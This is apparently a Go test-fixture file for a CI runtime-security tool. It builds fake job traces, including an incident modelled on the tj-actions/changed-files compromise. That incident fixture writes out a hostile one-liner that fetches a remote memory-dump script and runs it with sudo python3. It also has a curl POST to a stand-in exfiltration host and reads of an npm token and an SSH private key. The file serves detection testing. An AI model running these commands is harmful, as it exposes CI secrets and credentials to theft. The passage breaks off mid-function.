package web_test

import (
	"cmp"
	"context"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"github.com/muster-ci/muster"
	"github.com/muster-ci/muster/internal/trace"
	"github.com/muster-ci/muster/internal/trace/detect"
	"github.com/muster-ci/muster/internal/trace/query"
	"github.com/muster-ci/muster/internal/trace/view"
	"github.com/muster-ci/muster/internal/web"
)

// fakeTraces are the records of some of the fake's jobs.
type fakeTraces struct {
	traces     []*muster.Trace // newest first
	views      map[muster.TraceID]*view.Views
	events     map[muster.TraceID][]trace.Event
	detections []muster.Detection
	diff       map[muster.TraceID]web.TraceDiff
	allow      web.Allowlist
	asked      []web.EventQuery
	baselines  map[string]*detect.Baseline
}

var _ web.Traces = (*fake)(nil)

// traceMaker writes the views and the events of one job, second by second.
type traceMaker struct {
	start  time.Time
	job    trace.Job
	v      *view.Views
	events []trace.Event
	step   int
	pid    int
	rng    *rand.Rand
}

func newTraceMaker(j muster.Job, start time.Time) *traceMaker {
	m := &traceMaker{start: start, pid: 1800, rng: rand.New(rand.NewPCG(uint64(j.Key.ID), 3)), job: trace.Job{
		Name: j.Name, Repository: j.Repository, RunID: j.RunID, Attempt: 1, Key: "test", Workflow: j.Workflow, Ref: "refs/heads/" + j.HeadBranch, SHA: j.HeadSHA, Event: "push", Actor: "octocat", Workspace: "/home/runner/work/storefront/storefront",
	}}
	m.v = &view.Views{Version: view.Version, Job: m.job, Ended: true, Files: &view.Dir{Name: "/"}}
	m.v.Overview = view.Overview{StartedAt: start, Recorder: &trace.Recorder{Agent: "0.5.0", Kernel: "6.8.0-1021-azure", Scope: "cgroup+tree", Extras: []string{"fentry"}}, ByType: map[trace.Type]int64{}}
	m.v.Network.Categories = []view.CategoryTotal{}
	for _, c := range view.Categories {
		m.v.Network.Categories = append(m.v.Network.Categories, view.CategoryTotal{Category: c})
	}
	return m
}

func (m *traceMaker) at(s float64) time.Time {
	return m.start.Add(time.Duration(s * float64(time.Second)))
}

func (m *traceMaker) event(e trace.Event) uint64 {
	e.Seq = uint64(len(m.events) + 1)
	e.Step = m.step
	m.events = append(m.events, e)
	m.v.Overview.ByType[e.Type]++
	m.v.Overview.Counts.Events++
	if st := m.stepNow(); st != nil {
		st.Events++
	}
	return e.Seq
}

func (m *traceMaker) stepNow() *view.Step {
	if len(m.v.Steps) == 0 {
		return nil
	}
	return &m.v.Steps[len(m.v.Steps)-1]
}

// enter begins a step that ends at so many seconds.
func (m *traceMaker) enter(name, kind, uses string, from, to float64, result string) {
	m.step++
	m.v.Steps = append(m.v.Steps, view.Step{Number: m.step, Name: name, Kind: kind, Uses: uses, Start: m.at(from), End: m.at(to), DurationUS: int64((to - from) * 1e6), Result: result})
	m.event(trace.Event{Type: trace.StepStart, Timestamp: m.at(from), Name: name})
}

// run adds a process: below parent (-1 for none), from and to in seconds.
func (m *traceMaker) run(parent int, from, to, cpu float64, args ...string) int {
	m.pid += 1 + m.rng.IntN(3)
	path := args[0]
	name := path[strings.LastIndexByte(path, '/')+1:]
	args[0] = name
	p := view.Process{Parent: parent, PID: m.pid, Start: uint64(m.pid) * 1000, Command: name[:min(15, len(name))], Step: m.step, UID: 1001, StartedAt: m.at(from), EndedAt: m.at(to), DurationUS: int64((to - from) * 1e6), CPUUS: int64(cpu * 1e6), MemoryKiB: int64(4000 + cpu*9000),
		ReadBytes: int64(cpu * 300_000), WrittenBytes: int64(cpu * 120_000)}
	seq := m.event(trace.Event{Type: trace.ProcessExec, Timestamp: m.at(from), PID: p.PID, Start: p.Start, Command: p.Command, Path: path, Args: args})
	p.Images = []view.Image{{Path: path, Args: args, Dir: m.job.Workspace, At: m.at(from), Seq: seq}}
	m.v.Processes = append(m.v.Processes, p)
	if parent >= 0 {
		m.v.Processes[parent].Children++
	}
	for _, c := range []*view.Counts{&m.v.Overview.Counts, m.counts()} {
		c.Processes++
		c.Execs++
		c.CPUUS += p.CPUUS
		c.ReadBytes += p.ReadBytes
		c.WrittenBytes += p.WrittenBytes
	}
	return len(m.v.Processes) - 1
}

func (m *traceMaker) counts() *view.Counts {
	if st := m.stepNow(); st != nil {
		return &st.Counts
	}
	return &view.Counts{}
}

// reach adds connections of a process to a host.
func (m *traceMaker) reach(process int, host string, category view.Category, port int, count int64, verdict string) {
	p := &m.v.Processes[process]
	address := fmt.Sprintf("%d.%d.%d.%d", 20+m.rng.IntN(180), m.rng.IntN(250), m.rng.IntN(250), 1+m.rng.IntN(250))
	first := p.StartedAt.Add(30 * time.Millisecond)
	m.event(trace.Event{Type: trace.DNSQuery, Timestamp: first, PID: p.PID, Start: p.Start, Command: p.Command, Hostname: host, QueryType: "A", Addresses: []string{address}})
	seq := m.event(trace.Event{Type: trace.NetConnect, Timestamp: first.Add(4 * time.Millisecond), PID: p.PID, Start: p.Start, Command: p.Command, Address: address, Port: port, Protocol: "tcp", Hostname: host, Verdict: verdict})
	n := &m.v.Network
	n.Connections = append(n.Connections, view.Connection{Host: host, By: view.ByDNS, Category: category, Addresses: []string{address}, Port: port, Protocol: "tcp", Program: p.Command, Process: process, PID: p.PID, Step: m.step, Verdict: verdict, Count: count, First: first, Last: first.Add(time.Second), Seq: seq})
	n.Queries = append(n.Queries, view.Query{Hostname: host, Type: "A", Category: category, Addresses: []string{address}, Program: p.Command, PID: p.PID, Step: m.step, Count: 1 + count/4, First: first})
	i := slices.IndexFunc(n.Hosts, func(h view.Host) bool { return h.Host == host })
	cat := &n.Categories[slices.Index(view.Categories, category)]
	if i < 0 {
		n.Hosts = append(n.Hosts, view.Host{Host: host, Category: category, Addresses: []string{address}, Ports: []int{port}, First: first})
		i = len(n.Hosts) - 1
		cat.Hosts++
		m.v.Overview.Counts.Hosts++
		m.counts().Hosts++
	}
	h := &n.Hosts[i]
	h.Connections += count
	cat.Connections += count
	if !slices.Contains(h.Programs, p.Command) {
		h.Programs = append(h.Programs, p.Command)
	}
	p.Connections += count
	m.v.Overview.Counts.Connections += count
	m.counts().Connections += count
	if verdict == trace.VerdictDenied {
		h.Refused += count
		cat.Refused += count
		p.Refused += count
		m.v.Overview.Counts.Refused += count
		m.counts().Refused += count
		m.v.Overview.Refusals = append(m.v.Overview.Refusals, view.Refusal{Verdict: verdict, Host: host, Address: address, Port: port, Protocol: "tcp", Program: p.Command, PID: p.PID, Step: m.step, Count: count, First: first, Seq: seq})
	}
}

// touch counts accesses to a file and to the directories above it.
func (m *traceMaker) touch(path string, c view.FileCounts, sensitive, program string) {
	d := m.v.Files
	parts := strings.Split(strings.Trim(path, "/"), "/")
	add := func(to *view.FileCounts) {
		to.Reads += c.Reads
		to.Writes += c.Writes
		to.Creates += c.Creates
		to.Deletes += c.Deletes
		to.Renames += c.Renames
		to.Bytes += c.Bytes
	}
	for i := 0; ; i++ {
		add(&d.Total)
		d.Distinct++
		if sensitive != "" {
			d.Sensitive++
		}
		if i == len(parts)-1 {
			break
		}
		at, found := slices.BinarySearchFunc(d.Dirs, parts[i], func(sub *view.Dir, name string) int { return cmp.Compare(sub.Name, name) })
		if !found {
			d.Dirs = slices.Insert(d.Dirs, at, &view.Dir{Name: parts[i]})
		}
		d = d.Dirs[at]
	}
	name := parts[len(parts)-1]
	at, _ := slices.BinarySearchFunc(d.Files, name, func(f view.File, name string) int { return cmp.Compare(f.Name, name) })
	d.Files = slices.Insert(d.Files, at, view.File{Name: name, FileCounts: c, Sensitive: sensitive, Programs: []string{program}, Step: m.step})
	for _, counts := range []*view.Counts{&m.v.Overview.Counts, m.counts()} {
		add(&counts.FileCounts)
		counts.Files++
	}
	if sensitive != "" {
		m.v.FileTops.Sensitive = append(m.v.FileTops.Sensitive, view.SensitiveFile{Path: path, What: sensitive, Kind: "read", Program: program, Step: m.step, Count: max(c.Reads, 1), First: m.at(100)})
	}
}

// finish sums up what was written.
func (m *traceMaker) finish(seconds float64) *view.Views {
	v := m.v
	v.Overview.EndedAt, v.Overview.DurationUS = m.at(seconds), int64(seconds*1e6)
	for i := range v.Processes {
		p := &v.Processes[i]
		if p.ExitCode != 0 {
			v.Overview.Counts.Failed++
		}
		m.events = append(m.events, trace.Event{Type: trace.ProcessExit, Timestamp: p.EndedAt, Seq: uint64(len(m.events) + 1), Step: p.Step, PID: p.PID, Start: p.Start, Command: p.Command, ExitCode: p.ExitCode, DurationUS: p.DurationUS, CPUUS: p.CPUUS, MemoryKiB: p.MemoryKiB})
	}
	m.flame()
	cpu := map[string]*view.Top{}
	for i := range v.Processes {
		p := &v.Processes[i]
		t := cpu[p.Command]
		if t == nil {
			t = &view.Top{Name: p.Command}
			cpu[p.Command] = t
		}
		t.Count++
		t.CPUUS += p.CPUUS
		t.WallUS += p.DurationUS
		t.Bytes += p.ReadBytes + p.WrittenBytes
	}
	for _, t := range cpu {
		v.Overview.TopPrograms = append(v.Overview.TopPrograms, *t)
	}
	slices.SortFunc(v.Overview.TopPrograms, func(a, b view.Top) int { return cmp.Or(cmp.Compare(b.CPUUS, a.CPUUS), cmp.Compare(a.Name, b.Name)) })
	v.Overview.TopPrograms = v.Overview.TopPrograms[:min(10, len(v.Overview.TopPrograms))]
	for _, h := range v.Network.Hosts {
		v.Overview.TopHosts = append(v.Overview.TopHosts, view.Top{Name: h.Host, Count: h.Connections})
	}
	slices.SortFunc(v.Overview.TopHosts, func(a, b view.Top) int { return cmp.Or(cmp.Compare(b.Count, a.Count), cmp.Compare(a.Name, b.Name)) })
	v.Overview.TopHosts = v.Overview.TopHosts[:min(10, len(v.Overview.TopHosts))]
	v.Overview.TopWriters = []view.Top{{Name: "npm", Count: 41, Bytes: 212_400_100}, {Name: "esbuild", Count: 6, Bytes: 31_400_000}, {Name: "node", Count: 19, Bytes: 9_400_000}, {Name: "git", Count: 3, Bytes: 4_100_000}}
	perf := view.StepPerformance{Name: "job", WallUS: v.Overview.DurationUS, Share: 1, MaxProcesses: 34, Processes: v.Overview.Counts.Processes, CPUUS: v.Overview.Counts.CPUUS, ReadBytes: v.Overview.Counts.ReadBytes, WrittenBytes: v.Overview.Counts.WrittenBytes, Short: 214, ShortUS: 931_000}
	perf.Parallelism = float64(perf.CPUUS) / float64(max(perf.WallUS, 1))
	perf.ByCPU, perf.ByWall, perf.ByIO = v.Overview.TopPrograms, v.Overview.TopPrograms, v.Overview.TopPrograms
	v.Performance.Total = perf
	for _, st := range v.Steps {
		sp := view.StepPerformance{Number: st.Number, Name: st.Name, WallUS: st.DurationUS, CPUUS: st.CPUUS, Share: float64(st.DurationUS) / float64(max(v.Overview.DurationUS, 1)), ReadBytes: st.ReadBytes, WrittenBytes: st.WrittenBytes, Processes: st.Processes, Connections: st.Connections, MaxProcesses: 9}
		sp.Parallelism = float64(sp.CPUUS) / float64(max(sp.WallUS, 1))
		sp.Idle = max(0, 1-sp.Parallelism)
		sp.ByCPU, sp.ByWall, sp.ByIO = v.Overview.TopPrograms[:3], v.Overview.TopPrograms[1:4], v.Overview.TopPrograms[:2]
		v.Performance.Steps = append(v.Performance.Steps, sp)
	}
	v.Judge(view.Known{})
	return v
}

// flame joins processes of one chain of commands.
func (m *traceMaker) flame() {
	v := m.v
	steps := map[int]int{}
	frames := map[string]int{}
	of := make([]int, len(v.Processes))
	for i := range v.Processes {
		p := &v.Processes[i]
		parent, ok := steps[p.Step]
		if !ok {
			name := "outside of steps"
			if j := slices.IndexFunc(v.Steps, func(st view.Step) bool { return st.Number == p.Step }); j >= 0 {
				name = v.Steps[j].Name
			}
			parent = len(v.Flame)
			steps[p.Step] = parent
			v.Flame = append(v.Flame, view.Frame{Parent: -1, Name: name, Step: p.Step})
		}
		if p.Parent >= 0 && v.Processes[p.Parent].Step == p.Step {
			parent = of[p.Parent]
		}
		key := fmt.Sprint(parent, p.Command)
		at, ok := frames[key]
		if !ok {
			at = len(v.Flame)
			frames[key] = at
			v.Flame = append(v.Flame, view.Frame{Parent: parent, Name: p.Command, Step: p.Step})
		}
		of[i] = at
		f := &v.Flame[at]
		f.Count++
		f.SelfCPUUS += p.CPUUS
		f.SelfWallUS += p.DurationUS / 2
	}
}

// addTraces records the day's last jobs of the storefront: an incident, an ordinary one,
// one that runs, and those of which little or nothing is there.
func (f *fake) addTraces() *fake {
	f.tr = fakeTraces{views: map[muster.TraceID]*view.Views{}, events: map[muster.TraceID][]trace.Event{}, diff: map[muster.TraceID]web.TraceDiff{}}
	var ours []muster.Job
	for _, j := range f.jobs {
		if j.Name == "test (node 22)" && j.State == muster.JobCompleted && j.Runner != "" {
			ours = append(ours, j)
		}
	}
	incident, ordinary := f.addTrace(ours[0], muster.TraceComplete), f.addTrace(ours[1], muster.TraceComplete)
	f.incident(ours[0], incident)
	f.ordinary(ours[1], ordinary)
	t := f.addTrace(ours[2], muster.TraceTruncated)
	f.ordinary(ours[2], t)
	t.Reason, t.Lost = "the runner's machine went away before the agent sealed the trace", map[string]int64{"buffer_full": 1204, "disk_full": 31}
	f.addTrace(ours[3], muster.TraceLost).Reason = "the machine was destroyed before a segment arrived"
	f.addTrace(ours[4], muster.TraceAbsent).Reason = "the agent runs without CAP_BPF"
	gone := f.addTrace(ours[5], muster.TraceComplete)
	gone.DeletedAt, gone.Events = fakeNow.Add(-hours(1)), 31_000
	running := f.find(func(j muster.Job) bool { return j.Name == "test (node 22)" && j.State == muster.JobInProgress })
	t = f.addTrace(running, muster.TraceRecording)
	f.ordinary(running, t)
	v := f.tr.views[t.ID]
	v.Ended, v.Steps, v.Processes = false, v.Steps[:4], v.Processes[:20]
	v.Steps[3].End, v.Steps[3].Result = time.Time{}, ""
	for i := range v.Processes {
		v.Processes[i].Children = 0
	}
	for _, p := range v.Processes {
		if p.Parent >= 0 {
			v.Processes[p.Parent].Children++
		}
	}
	v.Flame = nil
	v.Judge(view.Known{})
	f.tr.diff[incident.ID] = web.TraceDiff{Against: *ordinary, Diff: view.Diff{
		NewHosts:     []view.Host{{Host: "ci-metrics.collector-7f2.xyz", Category: view.External, Connections: 3, Refused: 3, Programs: []string{"curl"}, First: incident.StartedAt.Add(205 * time.Second)}, {Host: "gist.githubusercontent.com", Category: view.GitHub, Connections: 1, Programs: []string{"curl"}, First: incident.StartedAt.Add(198 * time.Second)}},
		NewPrograms:  []view.Program{{Path: "/usr/bin/python3", Count: 1, First: incident.StartedAt.Add(199 * time.Second)}, {Path: "/usr/bin/sudo", Count: 1, First: incident.StartedAt.Add(199 * time.Second)}, {Path: "/usr/bin/curl", Count: 2, First: incident.StartedAt.Add(198 * time.Second)}},
		NewSensitive: f.tr.views[incident.ID].FileTops.Sensitive, NewNotable: f.tr.views[incident.ID].Notable, GoneHosts: []string{"cdn.playwright.dev"},
		Steps: []view.StepDiff{{Name: "Run tj-actions/changed-files@v45", Change: view.StepAdded, DurationUS: 11_000_000}, {Name: "Run tests", Change: view.StepChanged, DurationUS: 112_000_000, BeforeDurationUS: 83_000_000, Why: []string{"duration", "cpu"}}, {Name: "Install dependencies", Change: view.StepChanged, DurationUS: 68_800_000, BeforeDurationUS: 91_000_000, Why: []string{"duration"}}},
		Total: view.StepDiff{Name: "job", Change: view.StepChanged, DurationUS: 212_000_000, BeforeDurationUS: 199_000_000},
	}}
	f.allowlist(incident)
	f.usual(ordinary, ours[1])
	slices.SortStableFunc(f.tr.traces, func(a, b *muster.Trace) int { return b.StartedAt.Compare(a.StartedAt) })
	return f
}

// addTrace is the book's row of a job's trace, to be filled in at once.
func (f *fake) addTrace(j muster.Job, state muster.TraceState) *muster.Trace {
	end := j.CompletedAt
	f.tr.traces = append(f.tr.traces, &muster.Trace{ID: muster.TraceID{Runner: j.Runner, Number: 1}, Workspace: "default", Pool: j.Pool, Job: j.Key, JobName: j.Name, Repository: j.Repository, RunID: j.RunID, Attempt: 1, Key: "test", Workflow: j.Workflow, Ref: "refs/heads/" + j.HeadBranch, SHA: j.HeadSHA,
		State: state, StartedAt: j.StartedAt, EndedAt: end})
	t := f.tr.traces[len(f.tr.traces)-1]
	if state == muster.TraceComplete {
		t.SealedAt, t.AnalysedAt, t.ExpiresAt = end.Add(time.Second), end.Add(2*time.Second), end.AddDate(0, 1, 0)
	}
	return t
}

func (f *fake) keep(t *muster.Trace, m *traceMaker, seconds float64) *view.Views {
	v := m.finish(seconds)
	t.Events, t.Segments, t.Bytes, t.Head = v.Overview.Counts.Events*37, 38, 2_214_300, strings.Repeat("6f0c1d9be27a4a53", 4)
	v.Overview.Counts.Events = t.Events
	for k := range v.Overview.ByType {
		v.Overview.ByType[k] *= 37
	}
	f.tr.views[t.ID], f.tr.events[t.ID] = v, m.events
	return v
}

const workspace = "/home/runner/work/storefront/storefront"

// storefront writes what an ordinary run of the storefront's tests does.
func storefront(m *traceMaker) (npm int) {
	worker := m.run(-1, 0, 212, 4.1, "/opt/runner/bin/Runner.Worker", "spawnclient", "112", "115")
	m.v.Processes[worker].Step = 0
	m.reach(worker, "pipelinesghubeus5.actions.githubusercontent.com", view.GitHub, 443, 61, "")
	m.reach(worker, "results-receiver.actions.githubusercontent.com", view.GitHub, 443, 14, "")
	m.enter("Set up job", "", "", 0, 3.1, "succeeded")
	m.reach(worker, "codeload.github.com", view.GitHub, 443, 3, "")
	m.enter("Run actions/checkout@v5", "uses", "actions/checkout@v5", 3.1, 8.4, "succeeded")
	node := m.run(worker, 3.2, 8.3, .9, "/opt/runner/externals/node20/bin/node", "/home/runner/work/_actions/actions/checkout/v5/dist/index.js")
	for i, a := range [][]string{{"version"}, {"init", workspace}, {"remote", "add", "origin", "https://github.com/acme/storefront"}, {"config", "--local", "gc.auto", "0"}, {"-c", "protocol.version=2", "fetch", "--no-tags", "--prune", "--depth=1", "origin", "+6c2:refs/remotes/origin/main"}, {"checkout", "--progress", "--force", "refs/remotes/origin/main"}, {"log", "-1", "--format=%H"}} {
		git := m.run(node, 3.4+.5*float64(i), 3.8+.5*float64(i)+.2*float64(i%3), .04, append([]string{"/usr/bin/git"}, a...)...)
		if a[0] == "-c" {
			https := m.run(git, 5.5, 6.9, .3, "/usr/lib/git-core/git-remote-https", "origin", "https://github.com/acme/storefront")
			m.reach(https, "github.com", view.GitHub, 443, 2, "")
			m.run(git, 6.2, 6.9, .4, "/usr/lib/git-core/git", "index-pack", "--stdin", "--fix-thin")
		}
	}
	m.enter("Run actions/setup-node@v5", "uses", "actions/setup-node@v5", 8.4, 15.2, "succeeded")
	node = m.run(worker, 8.5, 15.1, 1.4, "/opt/runner/externals/node20/bin/node", "/home/runner/work/_actions/actions/setup-node/v5/dist/setup/index.js")
	m.reach(node, "raw.githubusercontent.com", view.GitHub, 443, 1, "")
	m.reach(node, "nodejs.org", view.External, 443, 1, "")
	m.run(node, 11, 14.8, 2.6, "/usr/bin/tar", "xz", "--strip", "1", "-C", "/opt/hostedtoolcache/node/22.9.0/x64", "-f", "/tmp/node.tar.gz")
	m.enter("Install dependencies", "run", "", 15.2, 84, "succeeded")
	sh := m.run(worker, 15.3, 83.9, .01, "/usr/bin/bash", "-e", "/home/runner/work/_temp/3f2.sh")
	npm = m.run(sh, 15.4, 83.8, 31, "/opt/hostedtoolcache/node/22.9.0/x64/bin/npm", "ci", "--no-audit", "--prefer-offline")
	m.reach(npm, "registry.npmjs.org", view.Registries, 443, 412, "")
	for i, pkg := range []string{"esbuild", "sharp", "@parcel/watcher", "core-js", "fsevents", "bcrypt"} {
		at := 52 + 3*float64(i)
		s := m.run(npm, at, at+2.6, .02, "/bin/sh", "-c", "node install.js # "+pkg)
		n := m.run(s, at+.1, at+2.5, .8, "/opt/hostedtoolcache/node/22.9.0/x64/bin/node", "install.js")
		if pkg == "sharp" {
			m.reach(n, "objects.githubusercontent.com", view.GitHub, 443, 1, "")
		}
	}
	m.enter("Run tests", "run", "", 84, 196, "succeeded")
	sh = m.run(worker, 84.1, 195.9, .01, "/usr/bin/bash", "-e", "/home/runner/work/_temp/9c1.sh")
	npm2 := m.run(sh, 84.2, 195.8, .7, "/opt/hostedtoolcache/node/22.9.0/x64/bin/npm", "test")
	jest := m.run(npm2, 84.9, 195.7, 12, "/opt/hostedtoolcache/node/22.9.0/x64/bin/node", "node_modules/.bin/vitest", "run", "--coverage")
	for i := range 8 {
		w := m.run(jest, 86+.2*float64(i), 190-4*float64(i%3), 38+2*float64(i%4), "/opt/hostedtoolcache/node/22.9.0/x64/bin/node", "node_modules/tinypool/dist/entry/process.js")
		if i < 3 {
			m.run(w, 90+float64(i), 93+float64(i), 3.1, workspace+"/node_modules/@esbuild/linux-x64/bin/esbuild", "--service=0.25.0", "--ping")
		}
	}
	m.v.Processes[jest+2].ExitCode = 1
	m.reach(jest, "127.0.0.1", view.Runner, 5432, 88, "")
	m.reach(jest, "fonts.googleapis.com", view.External, 443, 2, "")
	for _, file := range []struct {
		path    string
		c       view.FileCounts
		program string
	}{
		{workspace + "/package.json", view.FileCounts{Reads: 41}, "npm"}, {workspace + "/package-lock.json", view.FileCounts{Reads: 3}, "npm"}, {workspace + "/src/cart/total.ts", view.FileCounts{Reads: 9}, "node"}, {workspace + "/src/cart/total.test.ts", view.FileCounts{Reads: 3}, "node"},
		{workspace + "/src/checkout/index.ts", view.FileCounts{Reads: 9}, "node"}, {workspace + "/coverage/lcov.info", view.FileCounts{Creates: 1, Writes: 4, Bytes: 220_000}, "node"}, {workspace + "/.git/index", view.FileCounts{Reads: 4, Creates: 1, Writes: 1, Bytes: 31_000}, "git"},
		{"/home/runner/.npm/_cacache/index-v5/1f/22", view.FileCounts{Reads: 2, Creates: 1, Bytes: 812}, "npm"}, {"/tmp/node.tar.gz", view.FileCounts{Creates: 1, Reads: 1, Deletes: 1, Bytes: 31_400_000}, "node"}, {"/etc/passwd", view.FileCounts{Reads: 12}, "git"}, {"/etc/ssl/certs/ca-certificates.crt", view.FileCounts{Reads: 31}, "node"},
		{"/usr/lib/x86_64-linux-gnu/libc.so.6", view.FileCounts{Reads: 300}, "bash"}, {"/proc/self/maps", view.FileCounts{Reads: 40}, "node"},
	} {
		m.touch(file.path, file.c, "", file.program)
	}
	for i, pkg := range []string{"react", "react-dom", "vite", "vitest", "esbuild", "sharp", "zod", "undici", "lodash", "typescript"} {
		for n := range 4 + i*3 {
			m.touch(fmt.Sprintf("%s/node_modules/%s/dist/chunk-%02d.js", workspace, pkg, n), view.FileCounts{Creates: 1, Reads: int64(n % 4), Bytes: int64(4000 * (n + 1))}, "", "npm")
		}
	}
	m.v.FileTops.Largest = []view.Top{{Name: "/tmp/node.tar.gz", Bytes: 31_400_000}, {Name: workspace + "/node_modules/typescript/lib/tsc.js", Bytes: 9_100_000}, {Name: workspace + "/coverage/lcov.info", Bytes: 220_000}}
	m.v.FileTops.Renamed = []view.Rename{{From: "/home/runner/.npm/_cacache/tmp/4f2", To: "/home/runner/.npm/_cacache/content-v2/sha512/aa/4f2", Program: "npm", Step: 4}}
	return npm
}

func (f *fake) ordinary(j muster.Job, t *muster.Trace) {
	m := newTraceMaker(j, j.StartedAt)
	storefront(m)
	m.enter("Complete job", "", "", 196, 199, "succeeded")
	f.keep(t, m, 199)
}

// incident is the same job with an action that was changed and a package that phones home.
func (f *fake) incident(j muster.Job, t *muster.Trace) {
	t.Egress = "enforce"
	m := newTraceMaker(j, j.StartedAt)
	npm := storefront(m)
	for i := range m.v.Network.Connections {
		m.v.Network.Connections[i].Verdict = trace.VerdictAllowed
	}
	m.enter("Run tj-actions/changed-files@v45", "uses", "tj-actions/changed-files@v45", 196, 207, "succeeded")
	node := m.run(0, 196.2, 206.8, .6, "/opt/runner/externals/node20/bin/node", "/home/runner/work/_actions/tj-actions/changed-files/v45/dist/index.js")
	bash := m.run(node, 198, 206, .1, "/usr/bin/bash", "-c", "if [[ \"$OSTYPE\" == \"linux-gnu\" ]]; then B64_BLOB=`curl -sSf https://gist.githubusercontent.com/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py | sudo python3 | tr -d '\\0' | base64 -w 0 | base64 -w 0`; echo $B64_BLOB; fi")
	curl := m.run(bash, 198.1, 199, .03, "/usr/bin/curl", "-sSf", "https://gist.githubusercontent.com/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py")
	m.reach(curl, "gist.githubusercontent.com", view.GitHub, 443, 1, trace.VerdictAllowed)
	sudo := m.run(bash, 199, 205, .02, "/usr/bin/sudo", "python3")
	py := m.run(sudo, 199.1, 204.9, 3.8, "/usr/bin/python3")
	m.v.Processes[py].UID, m.v.Processes[py].Notable = 0, 2
	m.event(trace.Event{Type: trace.MemRead, Timestamp: m.at(199.4), PID: m.v.Processes[py].PID, Start: m.v.Processes[py].Start, Command: "python3", Method: "proc_mem", Target: m.v.Processes[0].PID, TargetCommand: "Runner.Worker"})
	m.v.Notable = []view.Notable{
		{Type: trace.SetUID, Text: "sudo became user 0", At: m.at(199), PID: m.v.Processes[sudo].PID, Program: "sudo", Step: 6, Process: sudo},
		{Type: trace.MemRead, Text: "python3 read the memory of Runner.Worker (pid 1802) through /proc/1802/mem", At: m.at(199.4), PID: m.v.Processes[py].PID, Program: "python3", Step: 6, Process: py},
	}
	exfil := m.run(bash, 205, 206, .02, "/usr/bin/curl", "-s", "-X", "POST", "--data-binary", "@-", "https://ci-metrics.collector-7f2.xyz/v1/ingest")
	m.v.Processes[exfil].ExitCode = 7
	m.reach(exfil, "ci-metrics.collector-7f2.xyz", view.External, 443, 3, trace.VerdictDenied)
	m.v.Network.Queries = append(m.v.Network.Queries, view.Query{Hostname: "4d554c544c494e4553454352455454455854313233343536373839.t.collector-7f2.xyz", Type: "TXT", Category: view.External, Program: "python3", Step: 6, Count: 41, First: m.at(203)})
	m.touch("/home/runner/.npmrc", view.FileCounts{Reads: 1}, "npm token", "node")
	m.touch("/home/runner/.ssh/id_ed25519", view.FileCounts{Reads: 1}, "SSH private key", "python3")
	m.enter("Complete job", "", "", 207, 212, "succeeded")
	v := f.keep(t, m, 212)
	t.Refused = 3
	chain := []string{"bash -c if [[ \"$OSTYPE\" == …", "node …/tj-actions/changed-files/v45/dist/index.js", "Runner.Worker spawnclient 112 115"}
	finding := func(sev muster.Severity, rule, title, process string, pid int, why, remedy, subject string, at float64) {
		f.tr.detections = append(f.tr.detections, muster.Detection{Workspace: "default", Trace: t.ID, Rule: rule, Severity: sev, Title: title, Explanation: why, Remedy: remedy, Step: "Run tj-actions/changed-files@v45", Process: process, PID: pid, Ancestry: chain, Subject: subject, Seq: []uint64{8}, Count: 1, At: m.at(at)})
		if t.Findings == nil {
			t.Findings = map[muster.Severity]int{}
		}
		t.Findings[sev]++
	}
	finding(muster.SeverityCritical, "runner-memory-read", "python3 read the memory of Runner.Worker", "python3", m.v.Processes[py].PID, "The worker holds every secret of the job in its memory, also those that were never given to a step. Nothing that builds software reads it; the changed tj-actions/changed-files did (CVE-2025-30066).", "Treat every secret of this repository as known to others: replace them now. Pin the action to a commit that you have read.", "Runner.Worker", 199.4)
	finding(muster.SeverityHigh, "download-and-execute", "curl's answer was run by python3", m.v.Processes[curl].Images[0].Path, m.v.Processes[curl].PID, "What was downloaded was run without ever being a file that anybody could look at.", "Find out what was behind the address at that time, and whether other jobs ran it: muster trace query 'hostname == \"gist.githubusercontent.com\"'.", "gist.githubusercontent.com", 198.1)
	finding(muster.SeverityHigh, "egress-refused", "curl was refused ci-metrics.collector-7f2.xyz", "curl -s -X POST --data-binary @- https://ci-metrics.collector-7f2.xyz/v1/ingest", m.v.Processes[exfil].PID, "The pool's egress policy does not allow this host; no earlier run of the job asked for it.", "If it belongs to the job, add it to the pool's allow list.", "ci-metrics.collector-7f2.xyz", 205)
	finding(muster.SeverityMedium, "credential-file-read", "python3 read an SSH private key", "python3", m.v.Processes[py].PID, "The file holds a secret and the step has no business with it.", "Replace the key.", "/home/runner/.ssh/id_ed25519", 201)
	v.Judge(view.Known{Findings: map[string]int{"critical": 1, "high": 2, "medium": 1}})
	_ = npm
}

// usual is what the storefront's tests and two other jobs usually do, and what is new in one.
func (f *fake) usual(t *muster.Trace, j muster.Job) {
	learnt := func(runs, refused int, hosts ...string) *detect.Baseline {
		b := &detect.Baseline{Refused: refused}
		for n := range runs {
			facts := detect.Facts{Hosts: map[string]int{}, Binaries: map[string]int{"/opt/hostedtoolcache/node/*/x*/bin/node": 9, "/usr/bin/git": 3, "/usr/bin/bash": 2}, Sensitive: map[string]int{"~/.npmrc": 1}}
			for _, h := range hosts {
				facts.Hosts[h] = 1
			}
			b.Learn(facts, t.ID.String(), fakeNow.Add(-hours(float64(200-10*n))))
		}
		return b
	}
	b := learnt(9, 1, "registry.npmjs.org", "results*.blob.core.windows.net", "github.com", "nodejs.org")
	b.Learn(detect.Facts{Hosts: map[string]int{"registry.npmjs.org": 1, "fonts.googleapis.com": 2, "cdn.fontshare.com": 1}, Binaries: map[string]int{"/usr/bin/fc-cache": 1}}, t.ID.String(), t.EndedAt)
	b.Accept(detect.Fact{Kind: "host", What: "cdn.fontshare.com"}, detect.Act{By: "operator", At: fakeNow.Add(-hours(1)), Reason: "the new font"})
	young := learnt(2, 0, "proxy.golang.org", "sum.golang.org")
	anew := learnt(1, 0, "ghcr.io")
	anew.Forgotten = &detect.Act{By: "operator", At: fakeNow.Add(-hours(30)), Reason: "learnt while the mirror was hijacked"}
	f.tr.baselines = map[string]*detect.Baseline{t.Baseline(): b, "acme/api/ci/build": young, "acme/api/release/Publish image": anew}
	for i, what := range []string{"fonts.googleapis.com", "cdn.fontshare.com"} {
		f.tr.detections = append(f.tr.detections, muster.Detection{Workspace: "default", Trace: t.ID, Rule: "new-host", Severity: muster.SeverityMedium, Title: "node reached " + what + ", which this job never did before",
